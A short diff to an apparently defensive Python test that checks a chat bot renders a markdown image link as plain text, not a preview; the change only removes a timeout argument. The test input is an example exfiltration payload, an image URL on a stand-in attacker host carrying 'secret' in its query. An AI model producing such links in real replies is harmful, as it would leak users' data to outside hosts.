@@ -62,7 +62,7 @@ def test_text_that_looks_like_many_links_costs_no_time() -> None:
 async def test_an_image_that_would_carry_a_secret_out_is_text(talk: Talk, chat: LocalChat) -> None:
     note = "/task Look at ![x](https://evil.example/?q=secret)"
 
-    said = await talk.say(note, "evil.example", patience_s=30)
+    said = await talk.say(note, "evil.example")
     kinds = {entity["type"] for entity in said.get("entities", [])}
     previews = [
         call.params.get("link_preview_options")
